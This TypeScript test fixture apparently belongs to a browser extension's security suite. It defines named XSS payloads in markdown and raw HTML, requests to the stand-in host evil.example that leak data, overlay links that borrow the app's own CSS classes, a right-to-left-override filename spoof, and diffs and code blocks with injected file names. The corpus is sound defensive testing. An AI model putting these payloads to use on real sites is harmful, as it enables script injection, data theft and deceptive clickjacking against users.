// What a hostile agent sends to attack the person: XSS and exfiltration vectors in markdown and raw
// HTML, markup that borrows the app's own classes, and hostile diffs, code and unicode. Every vector
// either calls the page's `__pwned` trap with its name or reaches evil.example.
import { expect } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Block } from "@loopback/shared/generated/types";
import { ROOT } from "../../support/relay-process.ts";

/** Script that, if it ever runs, calls the trap with the vector's name. */
export const run = (id: string) => `__pwned('${id}')`;
/** A foreign address that names the vector, so a request that leaves says which one sent it. */
export const evil = (id: string) => `http://evil.example/${id}`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Markdown and raw HTML, each named; every one either calls the trap or reaches evil.example. */
export const VECTORS: [name: string, source: string][] = [
  ["script", `<script>${run("script")}</script>`],
  ["remote script", `<script src="${evil("script.js")}"></script>`],
  ["img onerror", `<img src=x onerror="${run("img-onerror")}">`],
  ["svg onload", `<svg onload="${run("svg-onload")}"></svg>`],
  ["body onload", `<body onload="${run("body-onload")}">`],
  ["details ontoggle", `<details open ontoggle="${run("details-ontoggle")}"><summary>s</summary>x</details>`],
  ["autofocus onfocus", `<input autofocus onfocus="${run("input-onfocus")}"><textarea autofocus onfocus="${run("textarea-onfocus")}"></textarea>`],
  ["onclick on a kept tag", `<p onclick="${run("p-onclick")}" onmouseover="${run("p-onmouseover")}">hover me</p>`],
  ["markdown javascript: link", `[md javascript link](javascript:${run("md-js-link")})`],
  ["markdown JaVaScRiPt: link", `[md mixed-case link](JaVaScRiPt:${run("md-js-case")})`],
  ["markdown entity javascript: link", `[md entity link](&#106;avascript:${run("md-js-entity")})`],
  ["markdown data: link", `[md data link](data:text/html;base64,${base64(`<script>${run("md-data-link")}</script>`)})`],
  ["markdown vbscript: link", `[md vbscript link](vbscript:msgbox)`],
  ["autolink javascript:", `<javascript:${run("autolink-js")}>`],
  ["raw javascript: link", `<a href="javascript:${run("raw-js-link")}">raw javascript link</a>`],
  ["raw control-char javascript: link", `<a href="&#1;java&#9;script:${run("raw-js-ctrl")}">raw control-char link</a>`],
  ["raw data: link", `<a href="data:text/html;base64,${base64(`<script>${run("raw-data-link")}</script>`)}">raw data link</a>`],
  ["raw vbscript: link", `<a href="vbscript:msgbox">raw vbscript link</a>`],
  ["area javascript:", `<map name=m><area shape=rect coords=0,0,10,10 href="javascript:${run("area-js")}"></map>`],
  ["svg script", `<svg><script>${run("svg-script")}</script></svg>`],
  ["svg javascript: link", `<svg><a xlink:href="javascript:${run("svg-xlink")}"><text y=10>svg link</text></a></svg>`],
  ["svg animate", `<svg><animate onbegin="${run("svg-animate")}" attributeName=x dur=1s></animate></svg>`],
  ["svg image", `<svg><image href="${evil("svg-image.png")}"></image></svg>`],
  ["math", `<math><mtext><table><mglyph><style><img src=x onerror="${run("math-mxss")}"></style></mglyph></table></mtext></math>`],
  ["mXSS comment", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("mxss-comment")}&gt;"></mglyph></table></mtext></math>`],
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=${run("noscript")}>"></noscript>`],
  ["template", `<template><script>${run("template")}</script><img src=x onerror="${run("template-img")}"></template>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>parent.${run("iframe-srcdoc")}</script>"></iframe>`],
  ["iframe src", `<iframe src="${evil("iframe")}"></iframe>`],
  ["iframe javascript:", `<iframe src="javascript:parent.${run("iframe-js")}"></iframe>`],
  ["object", `<object data="${evil("object.swf")}"></object><object data="data:text/html;base64,${base64(`<script>${run("object-data")}</script>`)}"></object>`],
  ["embed", `<embed src="${evil("embed.swf")}">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${evil("meta-refresh")}">`],
  ["form action", `<form action="${evil("form")}"><input name=q value=secret><button formaction="${evil("formaction")}">Approve</button></form>`],
  ["base href", `<base href="${evil("base/")}">[relative link](relative/path)`],
  ["style @import", `<style>@import url(${evil("import.css")}); body { background: url(${evil("style-bg.png")}) }</style>`],
  ["style attribute url()", `<div style="background-image: url(${evil("style-attr.png")})">styled</div>`],
  ["link stylesheet", `<link rel=stylesheet href="${evil("link.css")}"><link rel=prefetch href="${evil("prefetch")}">`],
  ["table background", `<table background="${evil("table-background.png")}"><tr><td background="${evil("td-background.png")}">cell</td></tr></table>`],
  ["markdown image", `![remote image](${evil("md-image.png")})`],
  ["markdown javascript: image", `![js image](javascript:${run("md-image-js")})`],
  ["reference-style image", `![reference image][pixel]\n\n[pixel]: ${evil("ref-image.png")}`],
  ["img srcset", `<img srcset="${evil("srcset.png")} 1x, ${evil("srcset2.png")} 2x">`],
  ["img src", `<img src="${evil("raw-img.png")}">`],
  ["picture source", `<picture><source srcset="${evil("picture.png")}"><img alt=p></picture>`],
  ["video poster", `<video poster="${evil("poster.png")}" src="${evil("video.mp4")}"></video><audio src="${evil("audio.mp3")}" autoplay></audio>`],
  ["input image", `<input type=image src="${evil("input-image.png")}">`],
  ["link ping", `<a href="https://example.com/" ping="${evil("ping")}">pinging link</a>`],
  ["html in a code fence", "```html\n<script>" + run("fence") + "</script>\n<img src=x onerror=\"" + run("fence-img") + "\">\n```"],
  ["html in inline code", "`<img src=x onerror=\"" + run("inline-code") + "\">`"],
];

/**
 * Markup that borrows the app's own classes (read from the built CSS: Svelte's scoped hashes are the
 * same in every copy of a build) to cover the inbox with a link, or to look like its buttons.
 */
export function coverVectors(): [name: string, source: string][] {
  const css = ["extension/.output/chrome-mv3", "extension/.output/web"]
    .flatMap((dir) => [...new Bun.Glob("**/*.css").scanSync({ cwd: join(ROOT, dir), absolute: true })])
    .map((file) => readFileSync(file, "utf8"))
    .join("\n");
  const positioned = new Set<string>();
  const all = new Set<string>();
  for (const [, selector, body] of css.matchAll(/([^{}]+)\{([^{}]*)\}/g)) {
    const classes = [...selector!.matchAll(/\.(-?[A-Za-z_][\w-]*)/g)].map((m) => m[1]!);
    for (const c of classes) all.add(c);
    if (/position:\s*(fixed|absolute|sticky)/.test(body!)) for (const c of classes) positioned.add(c);
  }
  // Without these the corpus would prove nothing: the app does have fixed, hashed classes to borrow.
  expect([...positioned].some((c) => c === "help-backdrop")).toBe(true);
  expect([...all].some((c) => /^svelte-/.test(c))).toBe(true);
  const every = [...positioned].join(" ");
  return [
    ["borrowed fixed backdrop link", `<a class="${every}" href="${evil("cover")}">cover link</a>`],
    ["borrowed classes, one rule at a time", [...positioned].map((c) => `<a class="${c} ${[...all].filter((x) => x.startsWith("svelte-")).join(" ")}" href="${evil(`cover-${c}`)}">${c}</a>`).join(" ")],
    ["borrowed button look", `<a class="btn primary ok" href="${evil("fake-approve")}">Approve</a> <span class="btn">Send</span>`],
    ["open dialog", `<dialog open><a href="${evil("dialog")}">a dialog over the app</a></dialog>`],
    ["popover", `<div popover id="pop"><a href="${evil("popover")}">a popover in the top layer</a></div>`],
    ["the app's ids and data attributes", `<div id="app" data-connection="live" data-ask="x" aria-hidden="false">not the app</div>`],
  ];
}

/** All the vectors as one markdown text, each as its own block and again inline in a paragraph. */
export const ALL_MARKDOWN = [
  ...VECTORS.map(([name, source]) => `**${name}**\n\n${source}`),
  `Inline: ${VECTORS.filter(([, s]) => !s.includes("\n")).map(([, s]) => s).join(" and ")}`,
].join("\n\n");

/** A short hostile string for fields with a length limit: titles, labels, captions, project names. */
export const tag = (id: string) => `<img src=x onerror="${run(id)}">`;
export const RTL = "\u202E"; // RIGHT-TO-LEFT OVERRIDE: U+202E then "gnp.exe" shows as "exe.png"
export const LONG_UNICODE = [
  "𒐫".repeat(4_000),
  "Z̴̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡".repeat(400),
  "ﷺ".repeat(2_000),
  "👩🏽‍💻".repeat(1_000),
  `${RTL}gnp.exe ${"\u2066\u2067\u2068".repeat(20)} \u200B\u200D\uFEFF`.repeat(50),
].join(" ");

export const HOSTILE_DIFF = [
  `diff --git a/${tag("diff-git-name")}.ts b/${tag("diff-git-name")}.ts`,
  `--- a/${tag("diff-old-name")}.ts`,
  `+++ b/${tag("diff-new-name")}.ts`,
  `@@ -1,4 +1,4 @@ <script>${run("diff-hunk-header")}</script>`,
  ` <script>${run("diff-context")}</script>`,
  `-<img src=x onerror="${run("diff-deleted")}">`,
  `+<img src=y onerror="${run("diff-added")}">`,
  ` <svg onload="${run("diff-svg")}"></svg>`,
  `-const a = "<a href=javascript:${run("diff-word-old")}>x</a>";`,
  `+const a = "<a href=javascript:${run("diff-word-new")}>y</a>";`,
  `diff --git a/safe.ts b/renamed.ts`,
  `similarity index 90%`,
  `rename from <svg onload="${run("rename-from")}">`,
  `rename to <iframe srcdoc="<script>parent.${run("rename-to")}</script>">`,
  `--- a/<svg onload="${run("rename-from")}">`,
  `+++ b/<iframe srcdoc="<script>parent.${run("rename-to")}</script>">`,
  `@@ -1 +1 @@`,
  `-<style>@import url(${evil("diff-style.css")});</style>`,
  `+<link rel=stylesheet href="${evil("diff-link.css")}">`,
  `diff --git a/${tag("binary")}.png b/${tag("binary")}.png`,
  `Binary files a/${tag("binary")}.png and b/${tag("binary")}.png differ`,
].join("\n");

export const HOSTILE_CODE: Block[] = [
  { type: "code", language: "html", filename: `${tag("code-filename")}.html`, code: VECTORS.map(([, s]) => s).join("\n") },
  { type: "code", language: tag("shiki-language"), code: `<script>${run("unknown-language")}</script>` },
  { type: "code", language: "constructor", code: `<script>${run("prototype-language")}</script>` },
  { type: "code", language: "__proto__", filename: "x.toString", code: `<script>${run("proto-language")}</script>` },
  { type: "code", language: "svelte", code: `<script>${run("svelte-code")}</script>\n<img src=x onerror="${run("svelte-img")}">\n{@html "<img src=x onerror=${run("svelte-at-html")}>"}` },
  { type: "code", language: "ts", code: "const s = `</span></code></pre><img src=x onerror=\"" + run("ts-template") + "\">`;" },
];
